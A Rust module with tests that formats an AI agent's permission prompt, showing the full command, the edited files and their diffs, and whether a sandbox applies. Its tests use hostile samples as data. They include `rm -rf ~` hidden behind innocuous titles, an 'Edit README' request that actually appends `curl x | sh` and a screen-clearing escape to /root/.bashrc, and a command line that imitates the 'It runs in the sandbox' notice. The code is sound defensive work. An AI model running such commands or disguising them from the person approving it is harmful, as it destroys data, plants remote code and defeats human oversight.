//! Text of an agent's permission question.

use crate::model::acting::PermissionQuestion;

/// For a client that shows the differences itself.
pub fn permission_text(name: &str, question: &PermissionQuestion) -> String {
    let shown: String = tool_lines(question).join("\n  ");
    format!("{name} asks: {shown}\n{}", confinement(question))
}

/// With what the tool would write.
pub fn permission_text_with_differences(name: &str, question: &PermissionQuestion) -> String {
    let mut shown = tool_lines(question);
    for difference in &question.differences {
        let path = indented(&difference.path);
        if shown.last() != Some(&path) {
            shown.push(path);
        }
        let lines = difference.changed_lines();
        shown.extend((!lines.is_empty()).then(|| indented(&lines)));
    }
    format!(
        "{name} asks: {}\n{}",
        shown.join("\n  "),
        confinement(question)
    )
}

/// Shows the command once: agents repeat it in the title, in whole or cut. What the title only
/// mentions is shown nevertheless, because the agent writes both.
fn tool_lines(question: &PermissionQuestion) -> Vec<String> {
    let title = match question.title.as_str() {
        "" => "use a tool",
        title => title,
    };
    let begin = bare(title.trim_end_matches("...").trim_end_matches('…'));
    let is_cut = begin != bare(title);
    let whole = question.detail.first();
    let title = match whole.filter(|whole| is_cut && whole.starts_with(begin)) {
        Some(whole) => whole,
        None => title,
    };

    let mut lines = vec![indented(title)];
    let mut shown = vec![bare(title)];
    for detail in &question.detail {
        if !shown.contains(&detail.as_str()) {
            lines.push(indented(detail));
            shown.push(detail);
        }
    }
    lines
}

fn confinement(question: &PermissionQuestion) -> &'static str {
    match question.is_confined {
        true => "It runs in the sandbox.",
        false => "It runs without a sandbox.",
    }
}

/// Only TeDDy's own lines have no indent, so no line of the agent can pass for one.
fn indented(text: &str) -> String {
    text.replace('\n', "\n  ")
}

/// The command of a title such as ``Run `cargo test` ``.
fn bare(title: &str) -> &str {
    let title = title.trim();
    let code = title.strip_prefix("Run ").unwrap_or(title).trim();
    let code = code
        .strip_prefix('`')
        .and_then(|code| code.strip_suffix('`'));
    code.filter(|code| !code.contains('`')).unwrap_or(title)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::acting::ProposedText;

    #[track_caller]
    fn check(title: &str, detail: &[&str], expected: &str) {
        let question = PermissionQuestion {
            title: title.to_owned(),
            detail: detail.iter().map(|line| (*line).to_owned()).collect(),
            is_confined: false,
            ..PermissionQuestion::default()
        };
        let expected = format!("m asks: {expected}\nIt runs without a sandbox.");
        assert_eq!(permission_text("m", &question), expected);
    }

    #[test]
    fn the_command_is_shown_once() {
        check("`cargo test`", &["cargo test"], "`cargo test`");
        check("Run `cargo test`", &["cargo test"], "Run `cargo test`");
        check("Run tests", &["cargo test"], "Run tests\n  cargo test");
        check("cargo te…", &["cargo test --all"], "cargo test --all");
        check("", &["rm a", "rm a"], "use a tool\n  rm a");
        check("Edit a", &["/w/a", "/w/b"], "Edit a\n  /w/a\n  /w/b");
    }

    #[test]
    fn the_lines_of_a_command_are_indented() {
        let command = "cd web\nnpm test\nIt runs in the sandbox.";
        let shown = "cd web\n  npm test\n  It runs in the sandbox.";
        check("Run tests", &[command], &format!("Run tests\n  {shown}"));
        check(command, &[command], shown);
        check(
            &format!("Run `{command}`"),
            &[command],
            &format!("Run `{shown}`"),
        );
    }

    #[test]
    fn a_title_cannot_hide_the_command() {
        for title in [
            "Search docs: why is rm -rf ~ dangerous?",
            "Run echo rm -rf ~ safely",
            "Run `echo` `rm -rf ~`",
        ] {
            check(title, &["rm -rf ~"], &format!("{title}\n  rm -rf ~"));
        }
    }

    /// Regression: the question had only the title, which named another file.
    #[test]
    fn the_files_and_their_texts_are_shown() {
        let text = |path: &str, old: Option<&str>, new: &str| ProposedText {
            path: path.to_owned(),
            old: old.map(str::to_owned),
            new: new.to_owned(),
        };
        let mut question = PermissionQuestion {
            title: "Edit README".to_owned(),
            differences: vec![text(
                "/root/.bashrc",
                Some("a\n"),
                "a\ncurl x | sh\u{1b}[2J\n",
            )],
            ..PermissionQuestion::default()
        };
        let shown = |question: &PermissionQuestion| permission_text_with_differences("m", question);
        let expected = "m asks: Edit README\n  /root/.bashrc\n  @@ -1 +1,2 @@\n   a\n  +curl x | sh\\u{1b}[2J\nIt runs without a sandbox.";
        assert_eq!(shown(&question), expected);
        question.detail.push("/root/.bashrc".to_owned());
        assert_eq!(shown(&question), expected);
        assert_eq!(
            permission_text("m", &question),
            "m asks: Edit README\n  /root/.bashrc\nIt runs without a sandbox."
        );

        question.detail = vec!["/w/a".to_owned(), "/w/b".to_owned()];
        question.differences = vec![text("/w/a", None, "1\n"), text("/w/b", None, "2\n")];
        assert_eq!(
            shown(&question),
            "m asks: Edit README\n  /w/a\n  /w/b\n  /w/a\n  @@ -0,0 +1 @@\n  +1\n  /w/b\n  @@ -0,0 +1 @@\n  +2\nIt runs without a sandbox."
        );
    }

    #[test]
    fn a_question_says_whether_there_is_a_sandbox() {
        let question = PermissionQuestion {
            title: "Edit a".to_owned(),
            is_confined: true,
            ..PermissionQuestion::default()
        };
        assert_eq!(
            permission_text("m", &question),
            "m asks: Edit a\nIt runs in the sandbox."
        );
    }
}
